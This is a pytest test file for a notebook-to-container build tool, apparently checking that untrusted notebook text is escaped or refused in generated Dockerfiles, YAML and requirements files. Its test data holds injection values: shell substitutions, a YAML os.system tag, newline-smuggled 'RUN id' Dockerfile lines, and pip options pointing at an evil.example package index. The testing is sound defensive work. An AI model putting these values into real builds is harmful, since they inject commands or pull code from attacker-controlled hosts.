"""Hostile text in what ``nb2task build`` writes (issue #14, item 1): every value from a
notebook, its metadata, its parameters or a flag reaches a generated file through a
serializer, parses back exactly, and never adds a Dockerfile instruction or a YAML key;
what cannot be written safely is refused with one line, exit 2."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from packaging.requirements import Requirement
from support import run_cli, write_notebook

from nb2task.build import BuildOptions, build_context
from nb2task.errors import BuildError, UsageError

# The new modules are imported in the tests that use them, so that the others also run
# (and fail) against the code before issue #14.
MAX_DESCRIPTION = 256  # nb2task.notebook.MAX_DESCRIPTION

HOSTILE_TEXT = [
    "non\ufffecharacters\uffff",
    'it\'s "quoted"',
    "back\\slash \\n \\\\ end\\",
    "two\nlines",
    "${HOME} $HOME",
    "$(id) `id`",
    "{{ 7*7 }} {% raw %}",
    "key: value",
    "- a",
    "# x",
    "&a *a",
    "!!python/object/apply:os.system ['id']",
    "? x",
    "|",
    "> folded",
    "🛰️ satellite 👩🏽‍🚀",
    "line\u2028separator\u2029para\x85nel",
    "\ufeffbom",
    "tab\there\r\n",
    "'",
    "",
    "x" * 5000,
]


def _one_line(text: str) -> str:
    """``text`` as a description nb2task accepts: no control characters, not too long."""
    return re.sub(r"[\x00-\x1f\x7f-\x9f]", " ", text)[:MAX_DESCRIPTION]


def dockerfile_instructions(text: str) -> list[tuple[str, str]]:
    """A Dockerfile's instructions as (KEYWORD, arguments), continuation lines joined."""
    instructions = []
    pending = ""
    for line in text.split("\n"):
        if not pending and (not line.strip() or line.lstrip().startswith("#")):
            continue
        if line.rstrip().endswith("\\") and not _ends_inside_a_word(pending + line):
            pending += line.rstrip()[:-1] + " "
            continue
        whole = (pending + line).strip()
        pending = ""
        keyword, _, arguments = whole.partition(" ")
        instructions.append((keyword.upper(), arguments.strip()))
    assert not pending, "a continuation line ends the file"
    return instructions


def _ends_inside_a_word(text: str) -> bool:
    """Whether ``text`` ends inside an open double-quoted word (its last backslash is
    then an escape, not a continuation)."""
    quoted = False
    escaped = False
    for char in text.rstrip()[:-1]:
        if escaped:
            escaped = False
        elif char == "\\":
            escaped = True
        elif char == '"':
            quoted = not quoted
    return quoted


def docker_words(arguments: str) -> dict[str, str]:
    """``key="value" ...`` (LABEL, ENV) as a mapping, Docker's escapes undone."""
    pairs = re.findall(r'([\w.]+)="((?:[^"\\]|\\.)*)"', arguments)
    return {key: re.sub(r"\\(.)", r"\1", value) for key, value in pairs}


def build(tmp_path: Path, label: str, parameters: str, **metadata: Any) -> Path:
    nb = write_notebook(tmp_path / label / "task.ipynb", parameters, metadata=metadata or None)
    context = build_context(nb, BuildOptions(output_dir=tmp_path / label / "ctx"))
    return context.path


def parsed(context: Path) -> dict[str, Any]:
    files = {}
    for path in sorted(context.rglob("*")):
        relative = str(path.relative_to(context))
        if path.suffix in (".yaml", ".yml"):
            files[relative] = yaml.safe_load(path.read_text(encoding="utf-8"))
        elif path.suffix == ".json":
            files[relative] = json.loads(path.read_text(encoding="utf-8"))
    return files


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp_path = tmp_path_factory.mktemp("plain")
    return build(tmp_path, "plain", 'payload = "x"\nmode: str = "a"  # the mode')


@pytest.mark.parametrize("text", HOSTILE_TEXT, ids=range(len(HOSTILE_TEXT)))
def test_the_yaml_filter_round_trips_any_text(text: str) -> None:
    from nb2task.render import yaml_scalar

    written = yaml_scalar(text)
    assert "\n" not in written
    # Emoji are written as themselves, never as a \U escape other readers split.
    assert "\\U" not in written.replace("\\\\", "")
    assert yaml.safe_load(f"key: {written}\nnext: 1\n") == {"key": text, "next": 1}
    assert yaml.safe_load(f"- {written}\n") == [text]


@pytest.mark.parametrize("text", HOSTILE_TEXT, ids=range(len(HOSTILE_TEXT)))
def test_hostile_text_reaches_every_file_exactly(text: str, plain: Path, tmp_path: Path) -> None:
    description = _one_line(text) or "nb2task notebook task task"  # the default when empty
    help_text = _one_line(text).replace("\u2028", " ").replace("\u2029", " ")
    context = build(
        tmp_path,
        "hostile",
        f'payload = "x"\nmode: str = {text!r}  # {help_text}',
        description=description,
    )
    files = parsed(context)
    before = parsed(plain)
    assert files.keys() == before.keys()

    definition = files["definition.yaml"]
    assert definition["lambda"]["description"] == description
    # No key added, none lost; everything but the description as for a plain notebook.
    assert definition.keys() == before["definition.yaml"].keys()
    assert definition["lambda"].keys() == before["definition.yaml"]["lambda"].keys()
    for name in ("batch", "common_role_statements", "name"):
        assert definition[name] == before["definition.yaml"][name]
    for name, value in files.items():
        if name.startswith("workflows/"):
            assert value == before[name], name

    mode = files["parameters.schema.json"]["properties"]["mode"]
    assert mode["default"] == text
    assert mode.get("description", "") == help_text.strip()

    dockerfile = (context / "Dockerfile").read_text(encoding="utf-8")
    instructions = dockerfile_instructions(dockerfile)
    plain_instructions = dockerfile_instructions((plain / "Dockerfile").read_text())
    assert [k for k, _ in instructions] == [k for k, _ in plain_instructions]
    labels = docker_words(next(a for k, a in instructions if k == "LABEL"))
    assert labels == {
        "org.opencontainers.image.title": "task",
        "org.opencontainers.image.version": "0.1.0",
        "org.opencontainers.image.description": description,
    }
    assert description in (context / "README.md").read_text(encoding="utf-8")


def test_a_dollar_in_a_label_is_left_for_nobody_to_substitute(tmp_path: Path) -> None:
    context = build(tmp_path, "dollar", 'payload = "x"', description="${HOME} and $PATH")
    dockerfile = (context / "Dockerfile").read_text()
    assert 'description="\\${HOME} and \\$PATH"' in dockerfile


@pytest.mark.parametrize("version", ["1.2.0", "2024-01-15", "1.0.0-SNAPSHOT", "v2.0", "1.0.0-rc.1"])
def test_a_version_is_kept_as_written(tmp_path: Path, version: str) -> None:
    """Versions people write (not all PEP 440) are taken, and never rewritten: the images'
    tags must be what the notebook says."""
    context = build(tmp_path, "v", 'payload = "x"', version=version)
    assert version in (context / "definition.yaml").read_text()
    assert f'image.version="{version}"' in (context / "Dockerfile").read_text()


REFUSALS = [
    ({"version": "1.0\nRUN id"}, [], "NotebookError", "nb2task.version"),
    ({"version": "1.0\rRUN id"}, [], "NotebookError", "nb2task.version"),
    ({"version": "1.0\x00"}, [], "NotebookError", "nb2task.version"),
    ({"version": "1.0 beta"}, [], "NotebookError", "'1.0 beta' is not a version"),
    ({"version": 1.0}, [], "NotebookError", "nb2task.version"),
    ({"version": "1.0\nRUN id"}, ["--tag", "fine"], "NotebookError", "nb2task.version"),
    ({"description": "one\ntwo"}, [], "NotebookError", "nb2task.description"),
    ({"description": "bell\x07"}, [], "NotebookError", "nb2task.description"),
    ({"description": "x" * (MAX_DESCRIPTION + 1)}, [], "NotebookError", "nb2task.description"),
    ({"description": ["a list"]}, [], "NotebookError", "nb2task.description"),
    ({}, ["--base-image", "python:3.11\nRUN id"], "UsageError", "--base-image"),
    ({}, ["--base-image", "python:3.11 AS x"], "UsageError", "--base-image"),
    ({}, ["--image", "my image"], "UsageError", "--image"),
    ({}, ["--image", "MyImage"], "UsageError", "--image"),
    ({}, ["--image", "repo\nRUN id"], "UsageError", "--image"),
    ({}, ["--image", "repo:tag"], "UsageError", "--image"),
    (
        {"requirements": ["pyyaml[x\n--extra-index-url http://evil.example\n]==6.0.2"]},
        [],
        "BuildError",
        "(metadata nb2task.requirements)",
    ),
    ({"requirements": ["pyyaml==6.0.2 --hash=sha256:00"]}, [], "BuildError", "pyyaml"),
    ({"requirements": ["-r other.txt"]}, [], "BuildError", "pip option"),
    ({"requirements": ["--index-url http://evil.example"]}, [], "BuildError", "pip option"),
    ({"requirements": ["-e ."]}, [], "BuildError", "pip option"),
    ({"requirements": ["pyyaml @ https://evil.example/p.whl"]}, [], "BuildError", "URL"),
    ({"requirements": ["pyyaml\x1b==6.0.2"]}, [], "BuildError", "control characters"),
]


@pytest.mark.parametrize(
    "metadata, flags, error, naming", REFUSALS, ids=[str(i) for i in range(len(REFUSALS))]
)
def test_unsafe_build_input_is_refused_in_one_line(
    tmp_path: Path, metadata: dict[str, Any], flags: list[str], error: str, naming: str
) -> None:
    nb = write_notebook(tmp_path / "t.ipynb", 'payload = "x"', metadata=metadata)
    result = run_cli("build", nb, "-o", tmp_path / "ctx", *flags)
    assert result.returncode == 2, result.stderr
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith(f"nb2task.errors.{error}: "), lines[0]
    assert naming in lines[0]
    assert "Traceback" not in result.stderr
    assert not (tmp_path / "ctx").exists()


@pytest.mark.parametrize(
    "content, naming",
    [
        ("pyyaml==6.0.2\n--extra-index-url http://evil.example\n", "req.txt line 2"),
        ("-r other.txt\n", "req.txt line 1"),
        (
            "# a comment\n\nnumpy==1.0 # fine\npyyaml @ https://evil.example/p.whl\n",
            "req.txt line 4",
        ),
        ("pyyaml[x==6.0.2\n", "req.txt line 1"),
    ],
)
def test_a_requirements_file_names_the_bad_line(tmp_path: Path, content: str, naming: str) -> None:
    nb = write_notebook(tmp_path / "t.ipynb", 'payload = "x"')
    (tmp_path / "req.txt").write_text(content)
    result = run_cli("build", nb, "-o", tmp_path / "ctx", "--requirements", tmp_path / "req.txt")
    assert result.returncode == 2, result.stderr
    assert result.last_stderr_line.startswith("nb2task.errors.BuildError: requirement ")
    assert f"({naming})" in result.last_stderr_line


def test_a_url_requirement_is_accepted_when_allowed(tmp_path: Path) -> None:
    url = "pyyaml @ https://example.org/PyYAML-6.0.2-py3-none-any.whl"
    nb = write_notebook(
        tmp_path / "t.ipynb", 'payload = "x"', metadata={"requirements": [url, "numpy==1.0"]}
    )
    result = run_cli("build", nb, "-o", tmp_path / "ctx", "--allow-url-requirements")
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "ctx/requirements.txt").read_text().splitlines() == [
        "numpy==1.0",
        str(Requirement(url)),
    ]


def test_requirements_txt_holds_only_parsed_requirements(tmp_path: Path) -> None:
    nb = write_notebook(
        tmp_path / "t.ipynb",
        'payload = "x"',
        metadata={"requirements": ["PyYAML [ extra ] == 6.0.2", "numpy==1.0 ; python_version>'3'"]},
    )
    assert run_cli("build", nb, "-o", tmp_path / "ctx").returncode == 0
    assert (tmp_path / "ctx/requirements.txt").read_text().splitlines() == [
        'numpy==1.0; python_version > "3"',
        "PyYAML[extra]==6.0.2",
    ]


def test_lint_reports_a_bad_requirement(tmp_path: Path) -> None:
    nb = write_notebook(
        tmp_path / "t.ipynb",
        'payload = "x"',
        metadata={"requirements": ["pyyaml[x\n--extra-index-url http://evil.example\n]==6.0.2"]},
    )
    result = run_cli("lint", nb)
    assert result.returncode != 0
    assert "bad-requirement" in result.stdout + result.stderr


@pytest.mark.parametrize(
    "reference",
    [
        "python:3.11",
        "nb2task-base:0.1.0",
        "localhost:5000/team/base:v1",
        "123456789012.dkr.ecr.us-west-2.amazonaws.com/nb2task-base:1.2.3",
        "ghcr.io/org/base@sha256:" + "a" * 64,
        "[::1]:5000/base:latest",
    ],
)
def test_real_image_references_are_accepted(reference: str) -> None:
    from nb2task.image_ref import check_reference, check_repository

    assert check_reference(reference, "--base-image") == reference
    assert check_repository(reference.split("@")[0].rsplit(":", 1)[0], "--image")


@pytest.mark.parametrize(
    "reference",
    ["", "python:3.11\nRUN id", "Python", "a b", "a:", "a@sha256:short", "-a", "a//b", "a:b:c"],
)
def test_bad_image_references_are_usage_errors(reference: str) -> None:
    from nb2task.image_ref import check_reference

    with pytest.raises(UsageError, match="--image"):
        check_reference(reference, "--image")


@pytest.mark.parametrize("image", ["repo:1\nRUN id", "Repo:1", "a b"])
def test_submit_image_is_checked_as_a_reference(image: str) -> None:
    # submit --register takes a full reference: the same grammar as --base-image, checked
    # before anything is registered (the batch client is never touched).
    from types import SimpleNamespace

    from nb2task.submit import SubmitOptions, register

    source = SimpleNamespace(definition={"batch": {"container_properties": "{}"}})
    options = SubmitOptions(job_queue="q", bucket=None, register=True, image=image)  # type: ignore[arg-type]
    with pytest.raises(UsageError, match="--image"):
        register(None, "task", source, options)  # type: ignore[arg-type]


@pytest.mark.parametrize("text", ["new\nline", "cr\r", "nul\x00", "del\x7f", "esc\x1b"])
def test_docker_word_refuses_control_characters(text: str) -> None:
    from nb2task.render import docker_word

    with pytest.raises(BuildError, match="the field"):
        docker_word(text, "the field")


@pytest.mark.parametrize("text", [t for t in HOSTILE_TEXT if t == _one_line(t)])
def test_docker_word_reads_back_exactly(text: str) -> None:
    from nb2task.render import docker_word

    assert docker_words(f"k={docker_word(text)}") == {"k": text}


@pytest.mark.parametrize("surrogate", ["\ud800", "x\udfff", "\udbff\ud800"])
def test_a_lone_surrogate_in_the_description_is_refused(tmp_path: Path, surrogate: str) -> None:
    # A "\ud800" escape in the notebook's JSON is a Python str that no file can hold.
    default, help_text, metadata = "a", "the mode", {"description": surrogate}
    nb = tmp_path / "t.ipynb"
    node = {
        "cells": [
            {
                "cell_type": "code",
                "id": "c0",
                "metadata": {"tags": ["parameters"]},
                "source": f"payload = 'x'\nmode: str = {default!r}  # {help_text}",
                "outputs": [],
                "execution_count": None,
            }
        ],
        "metadata": {
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
            "nb2task": metadata,
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    nb.write_text(json.dumps(node), encoding="ascii")  # json escapes the surrogate
    result = run_cli("build", nb, "-o", tmp_path / "ctx")
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert result.last_stderr_line.startswith("nb2task.errors."), result.stderr
